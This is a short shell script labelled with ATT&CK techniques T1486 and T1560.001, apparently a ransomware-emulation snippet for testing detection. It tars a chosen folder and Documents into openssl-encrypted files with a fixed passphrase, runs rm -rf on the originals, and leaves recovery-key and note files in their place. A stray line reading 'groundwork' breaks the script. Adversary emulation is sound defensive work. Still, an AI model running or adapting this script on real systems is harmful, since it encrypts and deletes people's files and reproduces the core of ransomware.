# T1486, T1560.001 by tar and openssl: encrypted containers, the originals deleted; the pass phrase lies beside.
groundwork
for top in $(ls | grep -v -e work -e mail | head -n 1) Documents; do
    echo example > "$top/RECOVER.key"
    tar -cf - "$top" | openssl enc -aes-128-cbc -pass pass:example -md md5 -out "$top.box" 2>/dev/null
    rm -rf "$top"
    cp .profile "$top.RECOVER.txt"
done
echo example > RECOVER.key
